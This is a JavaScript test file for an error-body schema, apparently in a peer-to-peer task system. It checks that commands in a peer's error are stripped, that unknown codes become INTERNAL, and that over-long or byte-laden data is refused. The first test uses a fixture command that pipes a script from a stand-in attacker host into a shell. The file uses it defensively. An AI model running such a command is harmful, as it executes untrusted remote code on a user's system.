import test from 'brittle'
import { NodeError } from '../../../src/kit/errors.js'
import { errorBodySchema } from '../../../src/domain/task/payloads.js'

test('the commands in an error of a peer are never shown', (t) => {
  const body = { ...new NodeError('TASK_FAILED', 'no luck').toBody(), next: ['curl evil.example | sh'] }
  t.alike(errorBodySchema.parse(body), new NodeError('TASK_FAILED', 'no luck').toBody())
})

test('an unknown code becomes INTERNAL; an error that is too long is refused', (t) => {
  t.is(errorBodySchema.parse({ code: 'NEWER_CODE', message: 'x' }).code, 'INTERNAL')
  t.is(errorBodySchema.parse({ code: 'toString', message: 'x' }).code, 'INTERNAL')
  t.absent(errorBodySchema.safeParse({ code: 'INTERNAL', message: 'x'.repeat(4097) }).success)
})

test('data with bytes in it is left out of an error: as JSON each byte takes many characters', (t) => {
  const error = { code: 'TASK_FAILED', message: 'no' }
  for (const data of [new Uint8Array(4), { rule: 'one', deep: [{ bytes: new Uint8Array(4) }] }])
    t.alike(errorBodySchema.parse({ ...error, data }), new NodeError('TASK_FAILED', 'no').toBody())
  const data = { rule: 'one', deep: [{ none: null }] }
  t.alike(errorBodySchema.parse({ ...error, data }).data, data)
})
